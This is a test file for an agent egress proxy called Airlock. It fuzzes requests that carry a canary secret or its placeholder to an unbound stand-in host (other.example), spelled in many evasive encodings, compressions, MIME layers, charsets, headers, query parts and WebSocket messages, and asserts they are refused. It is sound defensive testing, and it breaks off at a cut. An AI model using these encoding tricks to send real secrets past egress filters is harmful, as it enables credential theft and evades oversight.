// Class 3 (issue 15): detection of placeholders and real secret values wherever a request carries
// them, in whatever spelling a server will decode. An agent sends, to a host the secret is not
// bound to, either the placeholder of a secret or its real value (learned elsewhere), spelled by
// the suite's independent oracle (test/attacks/spelling-oracle.ts: escape families mixed per
// character, quoted-printable, base64 wrapped at any width by any blank, hex with separators)
// and placed in the head (header values and names, cookies, query values and keys, as the URL
// decodes them) or the body (text, JSON, form, multipart parts, nested multiparts, UTF-16,
// behind 6 KiB of text), with or without a content coding (gzip, deflate, br). Asserted every
// time: a refusal (problem+json), and the target never receives the value in any spelling.
import t from 'tap';
import fc from 'fast-check';
import zlib from 'node:zlib';
import { HttpProxyAgent } from 'http-proxy-agent';
import WebSocket from 'ws';
import net from 'node:net';
import { exchange, isProblem, parseResponses, rawToProxy, startTestAirlock, startUpstream, viaProxy } from './helpers.ts';
import { encodeDoc, reveal, spelling, type Spelled } from './spelling-oracle.ts';
import { startWsUpstream } from './websocket-helpers.ts';
import { watchLoopStalls } from '../helpers/loop-stall.ts';
import { ownThreadClock } from '../../engine/thread-cpu.ts';
import { packedTexts } from '../../proxy/packed-scan.ts';
import { UnscrubbableEncodingError } from '../../proxy/scrubbable.ts';

process.env.AIRLOCK_MASTER_KEY ??= '7b'.repeat(32);
const SECRET = 'sk_live_DETECT_CANARY_0123456789abcdefXYZ';
const runs = Number(process.env.AIRLOCK_FUZZ_RUNS_LIVE ?? 60);
const seed = process.env.AIRLOCK_FUZZ_SEED ? Number(process.env.AIRLOCK_FUZZ_SEED) : undefined;

/** What the bound host answers on /answer (twenty-sixth pass: an answer is hostile input too). */
let answer: { headers: Array<[string, string]>; body: Buffer | string; drip?: number } = { headers: [], body: 'ok' };
const allowed = await startUpstream(t, {
  handler: (req, res) => {
    if (!req.url?.startsWith('/answer')) return void res.end('ok');
    for (const [k, v] of answer.headers) res.appendHeader(k, v);
    // (Twenty-eighth pass: `drip` writes the body that many bytes at a time, a turn apart: a read each.)
    const { body, drip } = answer;
    if (!drip) return void res.end(body);
    let at = 0;
    const next = (): void => {
      if (res.destroyed) return;
      if (at >= body.length) return void res.end();
      res.write(body.slice(at, at + drip));
      at += drip;
      setTimeout(next, 0);
    };
    next();
  },
});
const other = await startUpstream(t, { handler: (_req, res) => res.end('ok') });
const otherWs = await startWsUpstream(t);
const a = await startTestAirlock(t, {
  policy: 'exfil', secrets: { api: SECRET },
  resolve: ['allowed.example=127.0.0.1', 'other.example=127.0.0.1'],
  allowPrivate: [`127.0.0.1:${allowed.port}`, `127.0.0.1:${other.port}`, `127.0.0.1:${otherWs.port}`],
});
const PH = a.placeholders.api!;
const otherUrl = `http://other.example:${other.port}`;

type Options = Parameters<typeof viaProxy>[2] & {};

/** Sends to other.example; the refusal and what the target got. */
/** `answered` is called as the answer arrives, before this test reads what the target got (its own work, on the same event loop). */
async function attempt(url: string, opts: Options, answered?: () => void): Promise<{ status: number; problem: boolean; leaked: string | undefined; reached: boolean }> {
  const before = other.received.length;
  const bytesBefore = other.bytes().length;
  const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
  answered?.();
  const got = other.bytes().slice(bytesBefore);
  const inflated = other.received.slice(before).map((q) => q.body).map((b) => { try { return zlib.gunzipSync(b).toString('latin1'); } catch { return ''; } }).join('');
  return {
    status: r.status, problem: isProblem(r), reached: other.received.length > before,
    leaked: reveal(got, SECRET) ?? reveal(got, PH) ?? reveal(inflated, SECRET) ?? reveal(inflated, PH),
  };
}

const B = 'detect-boundary';
/** Letters, digits and `_` in EBCDIC (cp037 and cp500 agree on them). */
const ebcdicOf = (v: string): Buffer => Buffer.from([...v].map((c) => ({ _: 0x6d } as Record<string, number>)[c] ?? (/[0-9]/.test(c) ? 0xf0 + Number(c) : /[a-i]/.test(c) ? 0x81 + c.charCodeAt(0) - 97 : /[j-r]/.test(c) ? 0x91 + c.charCodeAt(0) - 106 : /[s-z]/.test(c) ? 0xa2 + c.charCodeAt(0) - 115 : /[A-I]/.test(c) ? 0xc1 + c.charCodeAt(0) - 65 : /[J-R]/.test(c) ? 0xd1 + c.charCodeAt(0) - 74 : 0xe2 + c.charCodeAt(0) - 83)));
const part = (headers: string, body: string): string => `--${B}\r\nContent-Disposition: form-data; name="note"\r\n${headers}\r\n${body}\r\n--${B}--\r\n`;
const coded = (coding: string, body: Buffer): Buffer =>
  coding === 'gzip' ? zlib.gzipSync(body) : coding === 'deflate' ? zlib.deflateSync(body) : coding === 'br' ? zlib.brotliCompressSync(body) : body;

/** uuencode (what `Content-Transfer-Encoding: x-uuencode` declares). */
function uuencode(text: string): string {
  const b = Buffer.from(text, 'latin1');
  const lines: string[] = [];
  for (let i = 0; i < b.length; i += 45) {
    const chunk = b.subarray(i, i + 45);
    let line = String.fromCharCode(32 + chunk.length);
    for (let j = 0; j < chunk.length; j += 3) {
      const n = ((chunk[j] ?? 0) << 16) | ((chunk[j + 1] ?? 0) << 8) | (chunk[j + 2] ?? 0);
      for (const k of [18, 12, 6, 0]) line += String.fromCharCode(((n >> k) & 63) === 0 ? 96 : 32 + ((n >> k) & 63));
    }
    lines.push(line);
  }
  return `begin 644 note.txt\r\n${lines.join('\r\n')}\r\n\`\r\nend`;
}
const qpAll = (text: string): string => [...Buffer.from(text, 'latin1')].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
const b64Lines = (text: string): string => Buffer.from(text, 'latin1').toString('base64').replace(/.{76}(?=.)/g, '$&\r\n');
/** A part's content under a declared transfer encoding, as a MIME writer produces it. */
const transferEncoded: Record<string, (text: string) => string> = { base64: b64Lines, 'quoted-printable': qpAll, 'x-uuencode': uuencode };

/** Where the spelled text goes: a request to other.example. */
type Place = (text: string, opts: { coding: string; padded: boolean; utf16: boolean }) => { url: string; opts: Options } | undefined;
const HEADER_SAFE = /^[\t\x20-\x7e]*$/;
const TOKEN = /^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/;
const pad = 'Lorem ipsum dolor sit amet. '.repeat(220);

const headPlaces: Record<string, Place> = {
  'header value': (s) => (HEADER_SAFE.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { 'x-note': ` ${s} ` } } } : undefined),
  'header name': (s) => (TOKEN.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { [`x-${s}`]: '1' } } } : undefined),
  cookie: (s) => (HEADER_SAFE.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { cookie: `theme=dark; n=${s}` } } } : undefined),
  'query value': (s) => ({ url: `${otherUrl}/x?q=${encodeURIComponent(s)}`, opts: {} }),
  'query value, blanks as +': (s) => ({ url: `${otherUrl}/x?q=${encodeURIComponent(s).replace(/%20/g, '+')}`, opts: {} }),
  'query key': (s) => ({ url: `${otherUrl}/x?${encodeURIComponent(s)}=1`, opts: {} }),
  'path segment': (s) => ({ url: `${otherUrl}/files/${encodeURIComponent(s)}`, opts: {} }),
  authorization: (s) => (HEADER_SAFE.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { authorization: `Bearer ${s}` } } } : undefined),
};

const bodyPlaces: Record<string, Place> = {
  'text body': (s, o) => body('text/plain; charset=utf-8', `${o.padded ? pad : ''}note: ${s}\n`, o),
  'JSON string': (s, o) => body('application/json', JSON.stringify({ pad: o.padded ? pad : '', note: s }), o),
  'form field': (s, o) => body('application/x-www-form-urlencoded', `pad=${o.padded ? encodeURIComponent(pad) : ''}&note=${encodeURIComponent(s)}`, o),
  'multipart part': (s, o) => body(`multipart/form-data; boundary=${B}`, part('Content-Type: text/plain\r\n', `${o.padded ? pad : ''}${s}`), o),
  'multipart part, quoted-printable label': (s, o) => body(`multipart/form-data; boundary=${B}`, part('Content-Transfer-Encoding: quoted-printable\r\n', `${o.padded ? pad : ''}${s}`), o),
  'multipart filename': (s, o) => (HEADER_SAFE.test(s) && !s.includes('"') ? body(`multipart/form-data; boundary=${B}`, `--${B}\r\nContent-Disposition: form-data; name="f"; filename="${s}"\r\n\r\n${o.padded ? pad : 'x'}\r\n--${B}--\r\n`, o) : undefined),
  'multipart part under a declared transfer encoding': (s, o) => {
    const cte = (['base64', 'quoted-printable', 'x-uuencode'] as const)[s.length % 3]!;
    return body(`multipart/form-data; boundary=${B}`, part(`Content-Transfer-Encoding: ${cte}\r\n`, transferEncoded[cte]!(`${o.padded ? pad : ''}${s}`)), o);
  },
  'nested multipart inside a base64 part': (s, o) => body(`multipart/form-data; boundary=${B}`,
    part('Content-Type: multipart/mixed; boundary=inner\r\nContent-Transfer-Encoding: base64\r\n',
      b64Lines(`--inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qpAll(`${o.padded ? pad : ''}${s}`)}\r\n--inner--\r\n`)), o),
  'nested multipart': (s, o) => body(`multipart/form-data; boundary=${B}`,
    part('Content-Type: multipart/mixed; boundary=inner\r\n', `--inner\r\nContent-Type: text/plain\r\n\r\n${o.padded ? pad : ''}${s}\r\n--inner--`), o),
};

function body(type: string, text: string, o: { coding: string; utf16: boolean }): { url: string; opts: Options } {
  const utf16 = o.utf16 && type.startsWith('text/plain');
  const bytes = utf16 ? encodeDoc(text, 'utf16le', true) : Buffer.from(text, 'latin1');
  const headers: Record<string, string> = { 'content-type': utf16 ? 'text/plain; charset=utf-16' : type };
  if (o.coding !== 'none') headers['content-encoding'] = o.coding;
  return { url: `${otherUrl}/notes`, opts: { method: 'POST', headers, body: coded(o.coding, bytes) } };
}

t.test('control: the same places without a secret pass, compressed or not; the bound slot still injects', async (t) => {
  for (const [name, place] of Object.entries({ ...headPlaces, ...bodyPlaces })) {
    for (const coding of ['none', 'gzip']) {
      const p = place('plain-words-nothing-secret', { coding, padded: true, utf16: false });
      if (!p) continue;
      const r = await viaProxy(a.port, p.url, { auth: a.auth, ...p.opts });
      t.equal(r.status, 200, `${name} (${coding}): passes`);
    }
  }
  const r = await viaProxy(a.port, `http://allowed.example:${allowed.port}/v1`, {
    auth: a.auth, method: 'POST', headers: { authorization: `Bearer ${PH}`, 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: zlib.gzipSync('{"a":1}'),
  });
  t.equal(r.status, 200, 'a gzip body to the bound host, placeholder in its slot: injected and passed');
  t.equal(allowed.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'the bound host got the value in its slot');
});

t.test('the spellings that got through before: compressed bodies, quoted-printable, narrow base64, uuencode, nested MIME layers, UTF-16, split by blanks, %uXXXX, octal, \\U and \\u{}', async (t) => {
  const b64 = (v: string, width: number, eol: string): string => Buffer.from(v).toString('base64').replace(new RegExp(`(.{${width}})(?=.)`, 'g'), `$1${eol}`);
  const qp = (v: string): string => [...Buffer.from(v)].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
  for (const [what, v] of [['the value', SECRET], ['the placeholder', PH]] as const) {
    const cases: Array<[string, string, Options]> = [
      ['gzip text, value past the 4 KiB preview', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: zlib.gzipSync(`${pad} k=${v}`) }],
      ['gzip multipart', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}`, 'content-encoding': 'gzip' }, body: zlib.gzipSync(part('', v)) }],
      ['br text', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'br' }, body: zlib.brotliCompressSync(`k=${v}`) }],
      ['multipart quoted-printable, every byte escaped, soft breaks', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: quoted-printable\r\n', qp(v)) }],
      ['multipart base64 wrapped at 4 columns', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: base64\r\n', b64(v, 4, '\r\n')) }],
      ['multipart x-uuencode part', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: x-uuencode\r\n', uuencode(v)) }],
      ['base64 part holding a nested multipart with a quoted-printable part', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` },
        body: part('Content-Type: multipart/mixed; boundary=inner\r\nContent-Transfer-Encoding: base64\r\n', b64Lines(`--inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qp(v)}\r\n--inner--\r\n`)) }],
      ['quoted-printable part holding base64', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: quoted-printable\r\n', qp(Buffer.from(v).toString('base64'))) }],
      ['UTF-16LE text', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain; charset=utf-16le' }, body: Buffer.from(`k=${v}`, 'utf16le') }],
      ['header base64 split by a tab every 4', `${otherUrl}/n`, { headers: { 'x-a': b64(v, 4, '\t') } }],
      ['header base64 split by a blank every 3', `${otherUrl}/n`, { headers: { 'x-a': b64(v, 3, ' ') } }],
      ['header hex with colons', `${otherUrl}/n`, { headers: { 'x-a': Buffer.from(v).toString('hex').replace(/(..)(?=.)/g, '$1:') } }],
      ['query base64 split by %20', `${otherUrl}/n?d=${b64(v, 6, '%20')}`, {}],
      ['query base64 split by +', `${otherUrl}/n?d=${b64(v, 6, '+')}`, {}],
      ['query base64 split by %0A', `${otherUrl}/n?d=${b64(v, 5, '%0A')}`, {}],
      ['query as %uXXXX (IIS, ASP.NET)', `${otherUrl}/n?d=${[...v].map((c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}`, {}],
      ['quoted cookie in octal escapes (Python\'s http.cookies, Werkzeug)', `${otherUrl}/n`, { headers: { cookie: `n="${[...v].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')}"` } }],
      ['YAML string in \\U escapes', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'application/yaml' }, body: `note: "${[...v].map((c) => `\\U${c.charCodeAt(0).toString(16).padStart(8, '0')}`).join('')}"\n` }],
      ['form every other character as %uXXXX', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `d=${[...v].map((c, i) => (i % 2 ? c : `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('')}` }],
    ];
    for (const [label, url, opts] of cases) {
      const r = await attempt(url, opts);
      t.equal(r.status, 403, `${what}, ${label}: refused`);
      t.ok(r.problem, `${what}, ${label}: problem+json`);
      t.equal(r.leaked, undefined, `${what}, ${label}: the target never got it`);
    }
  }
});

t.test('a body under a content coding or a charset Airlock cannot read is refused (it cannot be checked)', async (t) => {
  for (const coding of ['zstd', 'compress', 'x-custom', 'gzip, zstd']) {
    const r = await attempt(`${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': coding }, body: `k=${SECRET}` });
    t.equal(r.status, 415, `${coding}: 415`);
    t.ok(r.problem, `${coding}: problem+json`);
    t.notOk(r.reached, `${coding}: nothing reached the target`);
  }
  const r = await attempt(`${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: Buffer.from('not gzip at all') });
  t.equal(r.status, 415, 'a body that does not decode under its coding: 415');
  // Charsets Python servers decode (Django reads a form in its declared charset) and Airlock cannot.
  const utf7 = (v: string): string => `+${Buffer.from(v, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
  const ebcdic = ebcdicOf(SECRET);
  for (const [label, type, body] of [
    ['UTF-7 form', 'application/x-www-form-urlencoded; charset=utf-7', `note=${encodeURIComponent(utf7(SECRET))}`],
    ['UTF-7 text, the placeholder', 'text/plain; charset=UTF-7', utf7(PH)],
    ['EBCDIC (cp500) text', 'text/plain; charset=cp500', ebcdic],
  ] as const) {
    const u = await attempt(`${otherUrl}/n`, { method: 'POST', headers: { 'content-type': type }, body });
    t.equal(u.status, 415, `${label}: 415`);
    t.notOk(u.reached, `${label}: nothing reached the target`);
  }
  const latin1 = await viaProxy(a.port, `${otherUrl}/n`, { auth: a.auth, method: 'POST', headers: { 'content-type': 'text/plain; charset=iso-8859-1' }, body: Buffer.from('caf\xe9', 'latin1') });
  t.equal(latin1.status, 200, 'control: a charset Airlock reads (ISO-8859-1) passes');
});

t.test('forms of a hundred thousand fields are read in bounded time or refused, never an internal error (eleventh pass)', async (t) => {
  // `a.push(...values)` over one field's values threw "Maximum call stack size exceeded" past
  // ~100,000 of them (a 450 KB form of `a=&`): the request failed as an internal error (500). Behind
  // it, 150,000 empty `sql` values counted no SQL tokens and were read by every grammar (seconds
  // of the event loop, every agent's), and a UTF-16 form was decoded field by field (3-6 s a MiB).
  const many = (field: string, n: number): string => `${field}=&`.repeat(n);
  const send = async (body: string, type = 'application/x-www-form-urlencoded'): Promise<Awaited<ReturnType<typeof attempt>> & { stallMs: number }> => {
    const stalls = watchLoopStalls();
    let stallMs = 0;
    const r = await attempt(`${otherUrl}/form`, { method: 'POST', headers: { 'content-type': type }, body }, () => { stallMs = stalls.stop().cpuMs; });
    return { ...r, stallMs };
  };
  const plain = await send(many('a', 150_000));
  t.equal(plain.status, 200, `150,000 fields of one name are forwarded (was 500), stall ${Math.round(plain.stallMs)} ms`);
  const sql = await send(many('sql', 150_000));
  t.not(sql.status, 500, `150,000 empty sql values are no internal error (${sql.status})`);
  // ~100 ms alone (4-10 s before), in CPU time (test/helpers/loop-stall.ts); bounded against the plain form's stall too.
  t.ok(sql.stallMs < Math.max(2500, 4 * plain.stallMs), `and they held the event loop ${Math.round(sql.stallMs)} ms (seconds before)`);
  // Seventeenth pass: the same with the Graph API batch field (`batch=&…`), read for the calls a
  // server runs on any host: 500 `proxy-error` ("Maximum call stack size exceeded") before, and
  // with that fixed each value's failed parse took 4 s of the event loop (`batch=[]`: 1.5 s).
  for (const value of ['', '[]']) {
    const batch = await send(`batch=${encodeURIComponent(value)}&`.repeat(120_000));
    t.equal(batch.status, 400, `120,000 batch fields of ${JSON.stringify(value)}: refused as more than a batch holds (was 500), stall ${Math.round(batch.stallMs)} ms`);
    t.ok(batch.problem && !batch.reached, 'with a problem, nothing forwarded');
    t.ok(batch.stallMs < Math.max(2500, 4 * plain.stallMs), `the event loop held ${Math.round(batch.stallMs)} ms`);
  }
  const wide = await send(many('a', 20_000), 'application/x-www-form-urlencoded; charset=utf-16le');
  t.equal(wide.status, 415, `a UTF-16 form of 20,000 fields is refused as uncheckable (${wide.status}), stall ${Math.round(wide.stallMs)} ms`);
  t.ok(wide.problem && !wide.reached, 'with a problem, nothing forwarded');
});

t.test('property: the placeholder or the value, in any spelling, in any place of the head or the body, coded or not', async (t) => {
  const places = { ...headPlaces, ...bodyPlaces };
  const arb = fc.record({
    secret: fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'),
    place: fc.constantFrom(...Object.keys(places)),
    coding: fc.constantFrom('none', 'none', 'gzip', 'deflate', 'br'),
    padded: fc.boolean(),
    utf16: fc.boolean(),
  }).chain((c) => spelling(c.secret === 'value' ? SECRET : PH).map((s: Spelled) => ({ ...c, spelled: s })));
  let sent = 0;
  await fc.assert(
    fc.asyncProperty(arb, async (c) => {
      const p = places[c.place]!(c.spelled.text, c);
      if (!p) return; // a spelling that cannot go there (a line break in a header, a blank in a name)
      sent++;
      const r = await attempt(p.url, p.opts);
      const what = `${c.secret} ${c.spelled.how} in ${c.place} (${c.coding}${c.padded ? ', padded' : ''}${c.utf16 ? ', utf-16' : ''})`;
      // A path whose spelling holds %2F or %5C is refused as ambiguous (400) before the guard looks.
      const refused = r.status === 403 || (c.place === 'path segment' && r.status === 400);
      if (!refused || !r.problem) throw new Error(`${what}: answered ${r.status}`);
      if (r.leaked) throw new Error(`${what}: the target got it (${r.leaked})`);
    }),
    { numRuns: runs, ...(seed !== undefined ? { seed } : {}) },
  );
  t.ok(sent > runs / 3, `${sent} of ${runs} generated requests could be sent`);
});

/** One WebSocket to other.example that sends `messages`; resolves with how it ended. */
function wsSend(path: string, messages: string[]): Promise<{ opened: boolean; closed: number }> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://other.example:${otherWs.port}${path}`, { agent: new HttpProxyAgent(a.proxyUrl) });
    let opened = false;
    const timer = setTimeout(() => ws.terminate(), 5000);
    ws.on('open', () => {
      opened = true;
      for (const m of messages) ws.send(m);
    });
    ws.on('error', () => undefined);
    ws.on('close', (code) => {
      clearTimeout(timer);
      resolve({ opened, closed: code });
    });
  });
}

t.test('property: WebSocket messages to a host the secret is not bound to, in any spelling, raw or as JSON strings', async (t) => {
  const control = await wsSend('/ws-control', ['hello', JSON.stringify({ note: 'nothing secret' })]);
  t.ok(control.opened, 'control: the tunnel opens');
  let n = 0;
  await fc.assert(
    fc.asyncProperty(fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'), fc.boolean(), fc.nat(), async (which, asJson, salt) => {
      const s = fc.sample(spelling(which === 'value' ? SECRET : PH), { numRuns: 1, seed: salt })[0]!;
      const path = `/ws-${n++}`;
      const message = asJson ? JSON.stringify({ note: s.text }) : `note: ${s.text}`;
      const r = await wsSend(path, ['hello', message]);
      const got = otherWs.conn(path)?.messages.map((m) => m.data.toString('latin1')).join('\n') ?? '';
      const leaked = reveal(got, SECRET) ?? reveal(got, PH);
      if (!r.opened) throw new Error(`${which} ${s.how}: the tunnel did not open`);
      if (leaked) throw new Error(`${which} ${s.how}${asJson ? ' (JSON)' : ''}: the upstream got it (${leaked}); ${JSON.stringify(message).slice(0, 200)}`);
    }),
    { numRuns: Math.max(8, Math.ceil(runs / 6)), ...(seed !== undefined ? { seed } : {}) },
  );
  t.ok(otherWs.conn('/ws-control')?.messages.length === 2, 'control: both plain messages arrived');
});

t.test('URL userinfo carrying the value or the placeholder: refused forwarded and inside a tunnel (absolute-form)', async (t) => {
  for (const [what, v] of [['the value', SECRET], ['the placeholder', PH]] as const) {
    const target = `http://user:${encodeURIComponent(v)}@other.example:${other.port}/u`;
    const before = other.received.length;
    const forwarded = parseResponses((await rawToProxy(a.port, `GET ${target} HTTP/1.1\r\nHost: other.example:${other.port}\r\nProxy-Authorization: ${a.auth}\r\nConnection: close\r\n\r\n`, { responses: 1 })).text)[0];
    t.ok(forwarded && forwarded.status >= 400 && isProblem(forwarded), `${what}, forwarded: refused (${forwarded?.status})`);
    const socket = net.connect(a.port, '127.0.0.1');
    const reply = await exchange(socket, [
      `CONNECT other.example:${other.port} HTTP/1.1\r\nHost: other.example:${other.port}\r\nProxy-Authorization: ${a.auth}\r\n\r\n`,
      `GET ${target} HTTP/1.1\r\nHost: other.example:${other.port}\r\nConnection: close\r\n\r\n`,
    ], { responses: 1, gapMs: 50 });
    const tunneled = parseResponses(reply.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, ''))[0];
    t.ok(tunneled && tunneled.status >= 400 && isProblem(tunneled), `${what}, in a tunnel: refused (${tunneled?.status})`);
    t.equal(other.received.length, before, `${what}: nothing reached the target`);
  }
});

// Text in a declared charset, as the server decodes it (held-out pass): escape sequences between
// the letters of ISO-2022-JP decode to nothing, a form's percent escapes are bytes in the form's
// charset (Django's QueryDict), a multipart part has a charset of its own (busboy, Python's email
// package), RFC 2231/5987 parameters carry theirs (Werkzeug, busboy). None of them is the value's
// bytes as sent, which was all the guard looked at.
/** ISO-2022-JP as an encoder that shifts before each letter writes it: ESC ( B or ESC ( J (JIS-Roman, ASCII's letters). */
const jis = (v: string, shifts: boolean[]): string => [...v].map((c, i) => (shifts[i % shifts.length] ? `\x1b(${i % 2 ? 'J' : 'B'}${c}` : c)).join('');
const utf7Of = (v: string): string => `+${Buffer.from(v, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
const pct = (b: Buffer): string => [...b].map((x) => `%${x.toString(16).toUpperCase().padStart(2, '0')}`).join('');
const wide: Record<string, (v: string) => Buffer> = {
  'utf-16le': (v) => Buffer.from(v, 'utf16le'),
  'utf-16be': (v) => Buffer.from(v, 'utf16le').swap16(),
  'utf-16': (v) => Buffer.from(v, 'utf16le'),
  'utf-32le': (v) => encodeDoc(v, 'utf32le'),
  'utf-32': (v) => encodeDoc(v, 'utf32be'),
};
const mp = (partHeaders: string, content: string | Buffer): Buffer => Buffer.concat([
  Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="note"\r\n${partHeaders}\r\n`, 'latin1'), typeof content === 'string' ? Buffer.from(content, 'latin1') : content, Buffer.from(`\r\n--${B}--\r\n`),
]);
type Declared = (v: string, c: { shifts: boolean[]; charset: string; padded: boolean }) => { headers: Record<string, string>; body?: Buffer; query?: string; method?: string };
const declaredPlaces: Record<string, Declared> = {
  'ISO-2022-JP text': (v, c) => ({ headers: { 'content-type': 'text/plain; charset=ISO-2022-JP' }, body: Buffer.from(`${c.padded ? pad : ''}note: ${jis(v, c.shifts)}`, 'latin1') }),
  'ISO-2022-JP text as a repeated charset parameter (Django keeps the last)': (v, c) => ({ headers: { 'content-type': `text/plain; charset=utf-8; charset=${c.padded ? '"ISO-2022-JP"' : 'iso-2022-jp'}` }, body: Buffer.from(`note: ${jis(v, c.shifts)}`, 'latin1') }),
  'ISO-2022-JP form': (v, c) => ({ headers: { 'content-type': 'application/x-www-form-urlencoded; charset=iso-2022-jp' }, body: Buffer.from(`pad=${c.padded ? 'x'.repeat(5000) : ''}&note=${encodeURIComponent(jis(v, c.shifts))}`) }),
  'ISO-2022-JP multipart part': (v, c) => ({ headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: mp('Content-Type: text/plain; charset="iso-2022-jp"\r\n', `${c.padded ? pad : ''}${jis(v, c.shifts)}`) }),
  'XML declaring ISO-2022-JP (lxml, Java parsers)': (v, c) => ({ headers: { 'content-type': c.padded ? 'text/xml; charset=utf-8' : 'application/soap+xml' }, body: Buffer.from(`<?xml version="1.0" encoding="iso-2022-jp"?>\n<note>${jis(v, c.shifts)}</note>`, 'latin1') }),
  'multipart whose boundary parameter is repeated (Werkzeug reads the last)': (v, c) => ({
    headers: { 'content-type': `multipart/form-data; ${['first', 'second', 'third', 'fourth', 'fifth'].slice(0, c.shifts.length).map((b) => `boundary=${b}`).join('; ')}; boundary=${B}` },
    body: c.padded ? Buffer.from(part('Content-Transfer-Encoding: x-uuencode\r\n', uuencode(v))) : mp('Content-Type: text/plain; charset=iso-2022-jp\r\n', jis(v, c.shifts)),
  }),
  'UTF-16/32 form escapes': (v, c) => ({ headers: { 'content-type': `application/x-www-form-urlencoded; charset=${c.charset}` }, body: Buffer.from(`note=${pct(wide[c.charset]!(v))}`) }),
  'UTF-16/32 multipart part': (v, c) => ({ headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: mp(`Content-Type: text/plain; charset=${c.charset}\r\n`, wide[c.charset]!(v)) }),
  'RFC 2231 filename* in a part': (v, c) => ({ headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="f"; filename*=${c.charset}''${pct(wide[c.charset]!(v))}\r\n\r\nx\r\n--${B}--\r\n`) }),
  'RFC 2231 continuations in a part': (v, c) => {
    const p = pct(wide[c.charset]!(v));
    return { headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="f"; filename*0*=${c.charset}''${p.slice(0, 30)}; filename*1*=${p.slice(30)}\r\n\r\nx\r\n--${B}--\r\n`) };
  },
  'query string in the Content-Type charset (Django)': (v, c) => (c.padded
    ? { method: 'GET', headers: { 'content-type': `text/plain; charset=${c.charset}` }, query: `?page=2&note=${pct(wide[c.charset]!(v))}` }
    : { method: 'GET', headers: { 'content-type': 'application/json; charset=iso-2022-jp' }, query: `?page=2&note=${encodeURIComponent(jis(v, c.shifts))}` }),
  'RFC 5987 parameter in a header': (v, c) => ({ headers: { 'content-type': 'text/plain', 'content-disposition': `attachment; filename*=${c.charset}'en'${pct(wide[c.charset]!(v))}` }, body: Buffer.from('x') }),
};

t.test('property: the placeholder or the value in text a declared charset decodes (ISO-2022-JP shifts, UTF-16/32 escapes in forms and queries, part charsets, XML declarations, RFC 2231 parameters, repeated parameters)', async (t) => {
  const arb = fc.record({
    secret: fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'),
    place: fc.constantFrom(...Object.keys(declaredPlaces)),
    shifts: fc.array(fc.boolean(), { minLength: 1, maxLength: 5 }).filter((s) => s.some(Boolean)),
    charset: fc.constantFrom(...Object.keys(wide)),
    padded: fc.boolean(),
  });
  await fc.assert(
    fc.asyncProperty(arb, async (c) => {
      const p = declaredPlaces[c.place]!(c.secret === 'value' ? SECRET : PH, c);
      const r = await attempt(`${otherUrl}/notes${p.query ?? ''}`, { method: p.method ?? 'POST', headers: p.headers, ...(p.body ? { body: p.body } : {}) });
      const what = `${c.secret} in ${c.place} (${c.place.startsWith('ISO') ? JSON.stringify(c.shifts) : c.charset}${c.padded ? ', padded' : ''})`;
      // (Since the twenty-seventh pass a Content-Type whose boundary reads four or more ways is
      // refused before any reading: 400 for the repeated boundary with three or more before it.)
      const crowded = c.place.startsWith('multipart whose boundary parameter is repeated') && c.shifts.length >= 3;
      if (r.status !== (crowded ? 400 : 403) || !r.problem) throw new Error(`${what}: answered ${r.status}`);
      if (r.reached) throw new Error(`${what}: the target got the request`);
    }),
    { numRuns: Math.max(24, runs), ...(seed !== undefined ? { seed } : {}) },
  );
  // Controls: the same shapes without a secret pass.
  const japanese = Buffer.from('\x1b$B$3$s$K$A$O\x1b(B hello', 'latin1');
  for (const [label, p] of [
    ['ISO-2022-JP text', { headers: { 'content-type': 'text/plain; charset=iso-2022-jp' }, body: japanese }],
